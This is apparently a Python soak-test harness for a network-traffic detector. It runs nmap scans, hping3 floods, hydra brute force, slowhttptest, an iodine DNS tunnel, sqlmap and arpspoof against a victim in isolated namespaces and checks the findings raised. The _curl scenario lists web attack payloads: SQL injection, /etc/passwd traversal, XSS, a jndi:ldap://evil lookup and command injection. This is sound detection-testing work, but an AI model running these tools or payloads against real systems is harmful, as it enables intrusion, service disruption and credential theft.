"""Real tools against a real victim in namespaces: each scenario says what it runs and what must be found, or that nothing may be.

`python -m tests.collectors.traffic.detectors.tools` runs all (`make soak-traffic-tools`) and prints a table; `test_tools.py` runs a few.
"""

import argparse
import gzip
import hashlib
import random
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from collectors.traffic.detectors.options import DetectorOptions
from collectors.traffic.output.eve_findings import words
from contracts.event import Severity
from tests.collectors.traffic.detectors.arena import Arena, Watch

HOSTS = ("victim", "attacker", "third", "far")
_MODULES = "/usr/lib/apache2/modules"


@dataclass
class Stage:
    """What a scenario works with: the arena, a folder, and which services run already."""

    arena: Arena
    folder: Path
    services: set[str]

    @property
    def victim(self) -> str:
        """Return the victim's address."""
        return self.arena.address["victim"]

    def attack(self, *words: str, seconds: float = 30.0) -> subprocess.CompletedProcess[str]:
        """Run a program on the attacker."""
        return self.arena.run("attacker", *words, seconds=seconds)

    def serve(self, name: str) -> None:
        """Start one of the victim's services, once."""
        if name not in self.services:
            self.services.add(name)
            _SERVICES[name](self)


def _web(stage: Stage) -> None:
    folder, root = stage.folder, stage.folder / "www"
    root.mkdir()
    for number in range(40):
        (root / f"page{number}.html").write_text(f"<html>{number}{'x' * 2000}</html>")
    (root / "large.bin").write_bytes(random.Random(1).randbytes(1 << 20) * 30)
    _mirror(root / "debian")
    _git(root / "repo.git", folder / "work")
    loads = ("mpm_event", "authz_core", "dir", "mime", "auth_basic", "authn_core", "authn_file", "authz_user")
    (folder / "users").write_text("admin:{SHA}" + "0" * 27 + "=\n")
    (folder / "apache.conf").write_text(
        f"ServerRoot {folder}\nServerName victim\nListen 80\nListen 8080\nListen 8081\nPidFile {folder}/pid\n"
        + "".join(f"LoadModule {name}_module {_MODULES}/mod_{name}.so\n" for name in loads)
        + f"ErrorLog {folder}/error\nDocumentRoot {root}\nTypesConfig /etc/mime.types\nMutex file:{folder}\nKeepAlive On\n"
        + f"<Location /private>\nAuthType Basic\nAuthName x\nAuthUserFile {folder}/users\nRequire valid-user\n</Location>\n"
    )
    stage.arena.start("victim", "apache2", "-f", f"{folder}/apache.conf", "-DFOREGROUND")
    stage.arena.wait_for("victim", 80)


def _mirror(root: Path) -> None:
    """Make a flat package mirror: unsigned, with one package that is only listed."""
    root.mkdir()
    text = "".join(
        f"Package: hfd{number}\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x>\nFilename: ./hfd{number}.deb\nSize: 4\n"
        f"SHA256: {hashlib.sha256(b'none').hexdigest()}\nDescription: x\n\n"
        for number in range(500)
    )
    for number in range(30):
        (root / f"hfd{number}.deb").write_bytes(random.Random(number).randbytes(100_000))
    (root / "Packages").write_text(text)
    (root / "Packages.gz").write_bytes(gzip.compress(text.encode()))


def _git(bare: Path, work: Path) -> None:
    """Make a repository that can be cloned over plain HTTP."""
    work.mkdir()
    run = ["git", "-c", "user.name=x", "-c", "user.email=x@x", "-C", str(work)]
    subprocess.run([*run, "init", "-q", "-b", "main"], check=True)
    for number in range(30):
        (work / f"file{number}").write_text(f"{number}\n" * 500)
        subprocess.run([*run, "add", "."], check=True)
        subprocess.run([*run, "commit", "-qm", str(number)], check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True)
    subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)


def _sshd(stage: Stage) -> None:
    folder = stage.folder
    for name in ("host", "id"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{folder}/{name}"], check=True)
    (folder / "sshd.conf").write_text(
        f"HostKey {folder}/host\nPidFile {folder}/sshd.pid\nUsePAM no\nPermitRootLogin yes\nPasswordAuthentication yes\n"
        f"AuthorizedKeysFile {folder}/id.pub\nStrictModes no\nMaxStartups 100\nUseDNS no\nSubsystem sftp internal-sftp\n"
    )
    Path("/run/sshd").mkdir(exist_ok=True)
    stage.arena.start("victim", "/usr/sbin/sshd", "-D", "-f", f"{folder}/sshd.conf")
    stage.arena.wait_for("victim", 22)


def _ftpd(stage: Stage) -> None:
    words = ("-p", "21", "-u", "user", "-P", "secret40", "-d", str(stage.folder))
    stage.arena.start("victim", "/usr/bin/python3", "-m", "pyftpdlib", *words)
    stage.arena.wait_for("victim", 21)


def _tunnel(stage: Stage) -> None:
    arena = stage.arena
    arena.start("far", "iodined", "-f", "-c", "-P", "pass", "10.99.0.1/24", "t.hfd.test")
    arena.start("far", "/usr/bin/python3", "-m", "http.server", "80", "--directory", "/usr/share/doc/bash")
    arena.start(
        "victim",
        *("dnsmasq", "-k", "--no-resolv", "--no-hosts", "-C", "/dev/null", "-u", "root", "--pid-file="),
        f"--server=/hfd.test/{arena.address['far']}",
    )
    time.sleep(1)


_SERVICES: dict[str, Callable[[Stage], None]] = {"web": _web, "ssh": _sshd, "ftp": _ftpd, "tunnel": _tunnel}


@dataclass(frozen=True)
class Scenario:
    """`run` is what happens while the victim is watched. `expected` must be found; with none, nothing above low severity may be.

    `proven`: whether the sender's address is proven by a handshake, None where there may be no sender.
    """

    run: Callable[[Stage], None]
    expected: str = ""
    proven: bool | None = None
    services: tuple[str, ...] = ()


def _nmap(*words: str) -> Callable[[Stage], None]:
    def run(stage: Stage) -> None:
        stage.attack("nmap", "-n", "-Pn", "-T4", "--max-retries", "1", *words, stage.victim, seconds=30)
        time.sleep(2)

    return run


def _hping(*words: str, count: int = 6000) -> Callable[[Stage], None]:
    def run(stage: Stage) -> None:
        stage.attack("hping3", "-q", "-n", *words, "-c", str(count), stage.victim, seconds=12)

    return run


def _decoys(stage: Stage) -> None:
    _nmap("-sS", "-D", "10.77.0.50,10.77.0.51,ME,10.77.0.52")(stage)


def _idle(stage: Stage) -> None:
    """Send what a victim of an idle scan sees: SYNs in the name of a third host."""
    stage.attack("hping3", "--scan", "1-200", "-S", "-a", stage.arena.address["third"], stage.victim, seconds=6)


def _hydra(service: str) -> Callable[[Stage], None]:
    def run(stage: Stage) -> None:
        words = stage.folder / "words"
        words.write_text("".join(f"secret{number}\n" for number in range(60)))
        user = "user" if service == "ftp" else "root"
        stage.attack(
            "hydra",
            "-I",
            "-t",
            "8",
            "-l",
            user,
            "-P",
            str(words),
            f"{service}://{stage.victim}",
            seconds=10 if service == "ssh" else 45,
        )
        Path("hydra.restore").unlink(missing_ok=True)

    return run


def _hydra_http(stage: Stage) -> None:
    words = stage.folder / "words"
    words.write_text("".join(f"secret{number}\n" for number in range(60)))
    stage.attack("hydra", "-I", "-l", "admin", "-P", str(words), f"http-get://{stage.victim}/private", seconds=20)


def _slow(*words: str, path: str = "/") -> Callable[[Stage], None]:
    def run(stage: Stage) -> None:
        url = f"http://{stage.victim}{path}"
        stage.attack("slowhttptest", "-c", "150", "-r", "100", "-i", "5", "-l", "14", *words, "-u", url, seconds=20)

    return run


def _iodine(stage: Stage) -> None:
    stage.arena.start("attacker", "iodine", "-f", "-r", "-P", "pass", stage.victim, "t.hfd.test")
    for _ in range(40):
        if "10.99.0.2" in stage.attack("ip", "addr").stdout:
            break
        time.sleep(0.5)
    for _ in range(8):
        stage.attack("curl", "-s", "-m", "8", "-o", "/dev/null", "http://10.99.0.1/copyright", seconds=10)


def _sqlmap(stage: Stage) -> None:
    url = f"http://{stage.victim}/page1.html?id=1"
    stage.attack("sqlmap", "-u", url, "--batch", "--output-dir", f"{stage.folder}/sqlmap", seconds=30)


def _curl(stage: Stage) -> None:
    for query in (
        "id=1%27%20OR%20%271%27=%271",
        "file=../../../../etc/passwd",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "x=$%7Bjndi:ldap://evil/a%7D",
        "c=;cat%20/etc/passwd",
    ):
        stage.attack("curl", "-s", "-o", "/dev/null", f"http://{stage.victim}/page1.html?{query}")


def _arpspoof(stage: Stage) -> None:
    stage.arena.run("victim", "hping3", "--icmp", "-c", "2", "-q", stage.arena.address["third"], seconds=4)
    stage.attack("arpspoof", "-i", "eth0", "-t", stage.victim, stage.arena.address["third"], seconds=12)


def _browse(stage: Stage) -> None:
    """Fetch pages over several connections that are kept alive, again and again."""
    urls = [f"http://{stage.victim}/page{number}.html" for number in range(40)]
    for _ in range(3):
        stage.attack(
            "curl", "-s", "-Z", "--parallel-max", "6", *[part for url in urls for part in ("-o", "/dev/null", url)]
        )


def _apt(stage: Stage) -> None:
    folder = stage.folder / "apt"
    for name in ("lists/partial", "archives/partial"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    (folder / "sources").write_text(f"deb [trusted=yes] http://{stage.victim}/debian ./\n")
    options = {
        "Dir::Etc::SourceList": folder / "sources",
        "Dir::Etc::SourceParts": "/dev/null",
        "Dir::State::Lists": folder / "lists",
        "Dir::Cache": folder,
        "APT::Sandbox::User": "root",
        "Acquire::Languages": "none",
    }
    stage.attack("apt-get", *[part for name, value in options.items() for part in ("-o", f"{name}={value}")], "update")
    for number in range(10):
        stage.attack("curl", "-s", "-o", "/dev/null", f"http://{stage.victim}/debian/hfd{number}.deb")


def _clone(stage: Stage) -> None:
    for number in range(3):
        stage.attack("git", "clone", "-q", f"http://{stage.victim}/repo.git", f"{stage.folder}/clone{number}")


def _transfer(stage: Stage) -> None:
    for _ in range(4):
        stage.attack("curl", "-s", "--limit-rate", "40M", "-o", "/dev/null", f"http://{stage.victim}/large.bin")


def _ssh_work(stage: Stage) -> None:
    """Run commands and copy files over SSH, as deployment and backup do: many short sessions."""
    options = ["-F", "none", "-i", f"{stage.folder}/id", "-o", "StrictHostKeyChecking=no", "-o", "LogLevel=ERROR"]
    options += ["-o", f"UserKnownHostsFile={stage.folder}/known"]
    for _ in range(10):
        stage.attack("ssh", *options, f"root@{stage.victim}", "true")
    for number in range(5):
        stage.attack("scp", "-q", *options, "/usr/bin/git", f"root@{stage.victim}:{stage.folder}/copy{number}")


def _monitor(stage: Stage) -> None:
    """Ask again and again whether services are up, with and without a request."""
    for _ in range(6):
        for port in (80, 8080, 8081):
            stage.attack("curl", "-s", "-o", "/dev/null", f"http://{stage.victim}:{port}/page1.html")
            stage.attack("bash", "-c", f"exec 3<>/dev/tcp/{stage.victim}/{port}")
        stage.attack("hping3", "--icmp", "-c", "1", "-q", stage.victim, seconds=3)
        time.sleep(0.2)


def _ordinary(stage: Stage) -> None:
    for one in (_browse, _apt, _clone, _transfer, _ssh_work, _monitor):
        one(stage)


_WEB = ("web",)
SCENARIOS: dict[str, Scenario] = {
    "ordinary traffic": Scenario(_ordinary, services=("web", "ssh")),
    "nmap -sS": Scenario(_nmap("-sS"), "ports_scanned", False, _WEB),
    "nmap -sT": Scenario(_nmap("-sT"), "ports_scanned", True, _WEB),
    "nmap -sF": Scenario(_nmap("-sF"), "ports_scanned", False),
    "nmap -sN": Scenario(_nmap("-sN"), "ports_scanned", False),
    "nmap -sX": Scenario(_nmap("-sX"), "ports_scanned", False),
    "nmap -sA": Scenario(_nmap("-sA"), "ports_scanned", False),
    "nmap -sW": Scenario(_nmap("-sW"), "ports_scanned", False),
    "nmap -sM": Scenario(_nmap("-sM"), "ports_scanned", False),
    "nmap -sU": Scenario(_nmap("-sU", "--top-ports", "60"), "ports_scanned", False),
    "nmap -sO": Scenario(_nmap("-sO"), "ports_scanned", False),
    "nmap -sY": Scenario(_nmap("-sY"), "ports_scanned", False),
    "nmap -sV": Scenario(_nmap("-sV", "--version-light", "--top-ports", "100"), "ports_scanned", None, _WEB),
    "nmap decoys": Scenario(_decoys, "ports_scanned", False),
    "idle scan": Scenario(_idle, "ports_scanned", False),
    "hping3 SYN": Scenario(_hping("-S", "-p", "80", "-i", "u300"), "service_flooded", False, _WEB),
    "hping3 SYN, random senders": Scenario(
        _hping("-S", "-p", "80", "-i", "u300", "--rand-source"), "service_flooded", False, _WEB
    ),
    "hping3 ACK": Scenario(_hping("-A", "-p", "80", "-i", "u300"), "service_flooded", False),
    "hping3 UDP": Scenario(_hping("--udp", "-p", "53", "-i", "u200", count=8000), "service_flooded", False),
    "hping3 ICMP": Scenario(_hping("--icmp", "-i", "u300"), "service_flooded", False),
    "hydra SSH": Scenario(_hydra("ssh"), "logins_guessed", True, ("ssh",)),
    "hydra FTP": Scenario(_hydra("ftp"), "logins_guessed", True, ("ftp",)),
    "hydra HTTP": Scenario(_hydra_http, "logins_guessed", True, _WEB),
    "slowhttptest headers": Scenario(_slow("-H"), "connections_held", True, _WEB),
    "slowhttptest body": Scenario(_slow("-B"), "connections_held", True, _WEB),
    "slowhttptest read": Scenario(
        _slow("-X", "-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "3", path="/large.bin"),
        "connections_held",
        True,
        _WEB,
    ),
    "iodine": Scenario(_iodine, "dns_tunnelled", False, ("tunnel",)),
    "sqlmap": Scenario(_sqlmap, "web_probed", True, _WEB),
    "curl with attacks": Scenario(_curl, "web_probed", True, _WEB),
    "arpspoof": Scenario(_arpspoof, "arp_spoofed", False),
}


def play(stage: Stage, name: str, options: DetectorOptions | None = None) -> tuple[Watch, str]:
    """Run one scenario; returns what was seen, and what is wrong with it ("" for nothing)."""
    scenario = SCENARIOS[name]
    for service in scenario.services:
        stage.serve(service)
    with stage.arena.watch("victim", options) as watch:
        scenario.run(stage)
    return watch, _wrong(scenario, watch)


def _wrong(scenario: Scenario, watch: Watch) -> str:
    if not watch.packets:
        return "no packet was seen"
    if not scenario.expected:
        loud = [words(one) for one in watch.findings if one.severity > Severity.LOW]
        return "; ".join(loud)
    found = [one for one in watch.findings if one.kind.name == f"traffic.{scenario.expected}"]
    if not found:
        return f"no {scenario.expected}, but {sorted(watch.kinds())}"
    if scenario.proven is not None and scenario.proven not in {not one.forgeable for one in found}:
        return f"proven is not {scenario.proven}"
    if scenario.proven is False and not all(one.forgeable for one in found):
        return "what anyone can forge was believed"
    return ""


def main() -> int:
    """Run all scenarios, or those that are named, and print what was found of each."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("names", nargs="*", help="parts of the scenarios' names; all when none is given")
    chosen = parser.parse_args().names
    failed = 0
    with tempfile.TemporaryDirectory(prefix="hfd") as folder, Arena(*HOSTS) as arena:
        Path(folder).chmod(0o755)
        stage = Stage(arena, Path(folder), set())
        for name in SCENARIOS:
            if chosen and not any(part in name for part in chosen):
                continue
            watch, wrong = play(stage, name)
            failed += bool(wrong)
            print(
                f"{'WRONG' if wrong else 'ok':5} {name}: {watch.packets:,} packets, {watch.dropped} dropped {wrong}",
                flush=True,
            )
            for one, after in zip(watch.findings, watch.after_s, strict=True):
                print(f"        {after:5.1f} s  {words(one)[25:]}", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
